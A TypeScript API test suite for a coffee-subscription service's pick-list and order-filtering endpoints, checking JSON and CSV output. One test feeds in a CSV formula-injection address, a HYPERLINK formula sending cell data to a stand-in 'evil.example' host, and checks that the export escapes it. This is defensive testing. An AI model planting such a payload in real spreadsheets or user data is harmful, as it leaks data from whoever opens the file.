import { randomBytes } from 'node:crypto';
import type { Express } from 'express';
import request from 'supertest';
import type { CreateCustomerBody } from '../../../src/customers/customer.schemas';
import { recordPaidInvoice } from '../../../src/orders/order.service';
import { FakeClock } from '../../../src/shared/time';
import { createStripeGateway } from '../../../src/stripe/stripe-gateway';
import { buildCustomerInput, buildPlanInput } from '../../factories/catalog.factory';
import { buildPaidInvoice } from '../../factories/invoice.factory';
import { createMerchant, type TestMerchant } from '../../factories/merchant.factory';
import { buildTestApp } from '../../helpers/test-app';
import { silentLogger, testStripe, useTestDatabase } from '../../helpers/test-env';

type Address = CreateCustomerBody['shippingAddress'];

const SPRINGFIELD: Address = { line1: '1 Main St', city: 'Springfield', region: 'IL', postalCode: '62701', country: 'US' };
const PARIS: Address = { line1: '22 Rue de Rivoli', line2: 'Apt 4, rear', city: 'Paris', postalCode: '75001', country: 'FR' };
const LEEDS: Address = { line1: '5 "The Old Mill"', city: 'Leeds', postalCode: 'LS1 4AP', country: 'GB' };

/** A plan with two variants whose SKUs the test names, so several shoppers share them. */
async function createRoastersPick(app: Express, merchant: TestMerchant, name = "Roaster's pick") {
  const plan = (
    await request(app)
      .post('/api/v1/plans')
      .set(merchant.auth)
      .send(
        buildPlanInput({
          name,
          variants: [
            { name: 'Dark', sku: 'BEAN-DARK' },
            { name: 'Light', sku: 'BEAN-LIGHT' },
          ],
          cadences: [{ interval: 'month', intervalCount: 1, priceMinor: 2600 }],
          firstBoxDiscount: { type: 'percent', percentOff: 50 },
        }),
      )
      .expect(201)
  ).body;
  return { id: plan.id as string, variantIds: plan.variants.map((v: { id: string }) => v.id) as string[] };
}

/** A customer at this address and their subscription to the plan's variant, with a saved card. */
async function subscribe(app: Express, merchant: TestMerchant, planId: string, variantId: string, shippingAddress: Address) {
  const customer = (await request(app).post('/api/v1/customers').set(merchant.auth).send(buildCustomerInput({ shippingAddress })).expect(201)).body;
  const subscription = (
    await request(app)
      .post('/api/v1/subscriptions')
      .set(merchant.auth)
      .send({ customerId: customer.id, planId, variantId, cadence: 'month-1', paymentMethodId: 'pm_card_visa' })
      .expect(201)
  ).body;
  return { customerId: customer.id as string, subscriptionId: subscription.id as string, stripeSubscriptionId: subscription.stripeSubscriptionId as string };
}

/** Stripe reports the cycle starting at `periodStart` paid; returns the cycle's order as the API shows it. */
async function pay(
  app: Express,
  merchant: TestMerchant,
  clock: FakeClock,
  shopper: { subscriptionId: string; stripeSubscriptionId: string },
  periodStart: Date,
  amountMinor = 1300,
) {
  const deps = { clock, stripe: createStripeGateway(testStripe()), logger: silentLogger };
  await recordPaidInvoice(deps, buildPaidInvoice(shopper.stripeSubscriptionId, periodStart, amountMinor, `in_${randomBytes(8).toString('hex')}`));
  const orders = (await request(app).get(`/api/v1/orders?subscriptionId=${shopper.subscriptionId}`).set(merchant.auth).expect(200)).body.data;
  return orders[0] as { id: string; shipOn: string; planId: string; [key: string]: unknown };
}

/** Three shoppers paid for 2 March: two of the dark roast (one unit on hand) and one light (not tracked). */
async function threePaidBoxes() {
  const clock = new FakeClock('2026-03-02T15:30:00Z');
  const { app } = buildTestApp({ clock });
  const merchant = await createMerchant({ timezone: 'America/New_York' }, clock);
  const plan = await createRoastersPick(app, merchant);
  await request(app).post('/api/v1/stock-items/BEAN-DARK/adjustments').set(merchant.auth).send({ adjustBy: 1, reason: 'last bag' }).expect(200);
  const springfield = await subscribe(app, merchant, plan.id, plan.variantIds[0]!, SPRINGFIELD);
  const paris = await subscribe(app, merchant, plan.id, plan.variantIds[0]!, PARIS);
  const leeds = await subscribe(app, merchant, plan.id, plan.variantIds[1]!, LEEDS);
  const orders = {
    springfield: await pay(app, merchant, clock, springfield, clock.now()),
    paris: await pay(app, merchant, clock, paris, clock.now()),
    leeds: await pay(app, merchant, clock, leeds, clock.now()),
  };
  return { app, clock, merchant, plan, shoppers: { springfield, paris, leeds }, orders };
}

const byOrderId = (a: string, b: string) => (a < b ? -1 : a > b ? 1 : 0);

describe('GET /api/v1/pick-list', () => {
  useTestDatabase();

  test('when boxes are paid for a ship date, then the pick list gives the units per SKU and every order line with its address', async () => {
    const { app, merchant, shoppers, orders } = await threePaidBoxes();
    expect(Object.values(orders).map((o) => o.shipOn)).toEqual(['2026-03-02', '2026-03-02', '2026-03-02']);

    const res = await request(app).get('/api/v1/pick-list?shipOn=2026-03-02').set(merchant.auth).expect(200);

    expect(res.headers['content-type']).toMatch(/^application\/json/);
    const expectedOrders = [
      {
        orderId: orders.springfield.id,
        subscriptionId: shoppers.springfield.subscriptionId,
        customerId: shoppers.springfield.customerId,
        status: 'paid',
        shippingAddress: SPRINGFIELD,
        lines: [{ sku: 'BEAN-DARK', description: "Roaster's pick: Dark", quantity: 1, stock: 'reserved' }],
      },
      {
        orderId: orders.paris.id,
        subscriptionId: shoppers.paris.subscriptionId,
        customerId: shoppers.paris.customerId,
        status: 'paid',
        shippingAddress: PARIS,
        lines: [{ sku: 'BEAN-DARK', description: "Roaster's pick: Dark", quantity: 1, stock: 'short' }],
      },
      {
        orderId: orders.leeds.id,
        subscriptionId: shoppers.leeds.subscriptionId,
        customerId: shoppers.leeds.customerId,
        status: 'paid',
        shippingAddress: LEEDS,
        lines: [{ sku: 'BEAN-LIGHT', description: "Roaster's pick: Light", quantity: 1, stock: 'untracked' }],
      },
    ].sort((a, b) => byOrderId(a.orderId, b.orderId));
    expect(res.body).toEqual({
      object: 'pick_list',
      shipOn: '2026-03-02',
      orderCount: 3,
      // The first-box discount lines are not picked.
      skus: [
        { sku: 'BEAN-DARK', description: "Roaster's pick: Dark", quantity: 2, shortQuantity: 1 },
        { sku: 'BEAN-LIGHT', description: "Roaster's pick: Light", quantity: 1, shortQuantity: 0 },
      ],
      orders: expectedOrders,
    });

    const otherDay = (await request(app).get('/api/v1/pick-list?shipOn=2026-03-03').set(merchant.auth).expect(200)).body;
    expect(otherDay).toEqual({ object: 'pick_list', shipOn: '2026-03-03', orderCount: 0, skus: [], orders: [] });
    const otherMerchant = await createMerchant();
    expect((await request(app).get('/api/v1/pick-list?shipOn=2026-03-02').set(otherMerchant.auth).expect(200)).body.orderCount).toBe(0);
  });

  test('when the pick list is asked as CSV, then lines and totals come as text/csv with a header row, quoted cells and CRLF line ends', async () => {
    const { app, merchant, orders } = await threePaidBoxes();

    const lines = await request(app).get('/api/v1/pick-list?shipOn=2026-03-02&format=csv&part=lines').set(merchant.auth).expect(200);
    expect(lines.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(lines.headers['content-disposition']).toBe('attachment; filename="pick-list-2026-03-02-lines.csv"');
    const rows = [
      [orders.springfield.id, `${orders.springfield.id},BEAN-DARK,Roaster's pick: Dark,1,reserved,1 Main St,,Springfield,IL,62701,US`],
      [orders.paris.id, `${orders.paris.id},BEAN-DARK,Roaster's pick: Dark,1,short,22 Rue de Rivoli,"Apt 4, rear",Paris,,75001,FR`],
      [orders.leeds.id, `${orders.leeds.id},BEAN-LIGHT,Roaster's pick: Light,1,untracked,"5 ""The Old Mill""",,Leeds,,LS1 4AP,GB`],
    ]
      .sort((a, b) => byOrderId(a[0]!, b[0]!))
      .map(([, row]) => row);
    expect(lines.text).toBe(['order_id,sku,description,quantity,stock,line1,line2,city,region,postal_code,country', ...rows].join('\r\n') + '\r\n');

    const totals = await request(app).get('/api/v1/pick-list?shipOn=2026-03-02&format=csv&part=totals').set(merchant.auth).expect(200);
    expect(totals.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(totals.headers['content-disposition']).toBe('attachment; filename="pick-list-2026-03-02-totals.csv"');
    expect(totals.text).toBe("sku,description,quantity,short_quantity\r\nBEAN-DARK,Roaster's pick: Dark,2,1\r\nBEAN-LIGHT,Roaster's pick: Light,1,0\r\n");

    // CSV with no part: the lines. A day with no boxes: the header row alone.
    expect((await request(app).get('/api/v1/pick-list?shipOn=2026-03-02&format=csv').set(merchant.auth).expect(200)).text).toBe(lines.text);
    expect((await request(app).get('/api/v1/pick-list?shipOn=2026-03-09&format=csv&part=totals').set(merchant.auth).expect(200)).text).toBe(
      'sku,description,quantity,short_quantity\r\n',
    );
  });

  test('when boxes are packed, shipped or cancelled, then only the paid and packed ones are left to pick', async () => {
    const { app, merchant, orders } = await threePaidBoxes();
    await request(app).post(`/api/v1/orders/${orders.springfield.id}/pack`).set(merchant.auth).send({}).expect(200);
    await request(app).post(`/api/v1/orders/${orders.paris.id}/ship`).set(merchant.auth).send({ carrier: 'UPS', trackingNumber: '1Z1' }).expect(200);
    await request(app).post(`/api/v1/orders/${orders.leeds.id}/cancel`).set(merchant.auth).send({ reason: 'fraud' }).expect(200);

    const res = (await request(app).get('/api/v1/pick-list?shipOn=2026-03-02').set(merchant.auth).expect(200)).body;
    expect(res.orderCount).toBe(1);
    expect(res.orders.map((o: { orderId: string; status: string }) => [o.orderId, o.status])).toEqual([[orders.springfield.id, 'packed']]);
    expect(res.skus).toEqual([{ sku: 'BEAN-DARK', description: "Roaster's pick: Dark", quantity: 1, shortQuantity: 0 }]);
  });

  test("when a customer's address starts with a formula character, then the CSV cell is prefixed with a quote (the JSON keeps it as typed), and the address is the one at payment", async () => {
    const clock = new FakeClock('2026-03-02T15:30:00Z');
    const { app } = buildTestApp({ clock });
    const merchant = await createMerchant({ timezone: 'America/New_York' }, clock);
    const plan = await createRoastersPick(app, merchant);
    const shopper = await subscribe(app, merchant, plan.id, plan.variantIds[1]!, SPRINGFIELD);
    const hostile: Address = {
      line1: '=HYPERLINK("https://evil.example/?"&A1,"Track")',
      line2: '+1 555 0100',
      city: '@Springfield',
      region: '-IL',
      postalCode: '62701',
      country: 'US',
    };
    // Moved before the payment: the box goes to the address of the moment it is paid.
    await request(app).patch(`/api/v1/customers/${shopper.customerId}`).set(merchant.auth).send({ shippingAddress: hostile }).expect(200);
    const order = await pay(app, merchant, clock, shopper, clock.now());
    // Moved after the payment: the paid box does not follow.
    await request(app).patch(`/api/v1/customers/${shopper.customerId}`).set(merchant.auth).send({ shippingAddress: PARIS }).expect(200);

    const json = (await request(app).get('/api/v1/pick-list?shipOn=2026-03-02').set(merchant.auth).expect(200)).body;
    expect(json.orders[0].shippingAddress).toEqual(hostile);

    const csv = (await request(app).get('/api/v1/pick-list?shipOn=2026-03-02&format=csv&part=lines').set(merchant.auth).expect(200)).text;
    expect(csv).toBe(
      'order_id,sku,description,quantity,stock,line1,line2,city,region,postal_code,country\r\n' +
        `${order.id},BEAN-LIGHT,Roaster's pick: Light,1,untracked,"'=HYPERLINK(""https://evil.example/?""&A1,""Track"")",'+1 555 0100,'@Springfield,'-IL,62701,US\r\n`,
    );
  });

  test.each([
    ['an impossible date', 'shipOn=2026-02-30'],
    ['no date', ''],
    ['a date in words', 'shipOn=tomorrow'],
    ['an unknown format', 'shipOn=2026-03-02&format=xml'],
    ['an unknown part', 'shipOn=2026-03-02&format=csv&part=everything'],
    ['an unknown parameter', 'shipOn=2026-03-02&status=paid'],
  ])('when the query has %s, then it answers 400 invalid_request', async (_what, query) => {
    const { app, clock } = buildTestApp();
    const merchant = await createMerchant({}, clock);
    const res = await request(app).get(`/api/v1/pick-list?${query}`).set(merchant.auth).expect(400);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(res.body.type).toBe('/problems/invalid_request');
  });
});

describe('GET /api/v1/orders filtered by ship date and plan', () => {
  useTestDatabase();

  test('when orders are listed by shipOn and planId, then only the boxes of that date and plan come back', async () => {
    const clock = new FakeClock('2026-03-02T15:30:00Z');
    const { app } = buildTestApp({ clock });
    const merchant = await createMerchant({ timezone: 'America/New_York' }, clock);
    const pick = await createRoastersPick(app, merchant);
    const decaf = await createRoastersPick(app, merchant, 'Decaf club');
    const regular = await subscribe(app, merchant, pick.id, pick.variantIds[0]!, SPRINGFIELD);
    const sleepy = await subscribe(app, merchant, decaf.id, decaf.variantIds[0]!, PARIS);
    const march = await pay(app, merchant, clock, regular, clock.now());
    const decafMarch = await pay(app, merchant, clock, sleepy, clock.now());
    clock.set('2026-04-02T14:31:00Z');
    const april = await pay(app, merchant, clock, regular, new Date('2026-04-02T14:30:05Z'), 2600);
    expect([march.shipOn, decafMarch.shipOn, april.shipOn]).toEqual(['2026-03-02', '2026-03-02', '2026-04-02']);

    const ids = async (query: string) =>
      ((await request(app).get(`/api/v1/orders?${query}`).set(merchant.auth).expect(200)).body.data as Array<{ id: string }>).map((o) => o.id).sort(byOrderId);
    expect(await ids('shipOn=2026-03-02')).toEqual([march.id, decafMarch.id].sort(byOrderId));
    expect(await ids(`shipOn=2026-03-02&planId=${pick.id}`)).toEqual([march.id]);
    expect(await ids(`shipOn=2026-03-02&planId=${decaf.id}`)).toEqual([decafMarch.id]);
    expect(await ids(`planId=${pick.id}`)).toEqual([march.id, april.id].sort(byOrderId));
    expect(await ids('shipOn=2026-04-02')).toEqual([april.id]);
    expect(await ids(`shipOn=2026-04-02&planId=${decaf.id}`)).toEqual([]);
    expect((await request(app).get('/api/v1/orders?shipOn=2026-02-30').set(merchant.auth).expect(400)).body.type).toBe('/problems/invalid_request');
  });
});
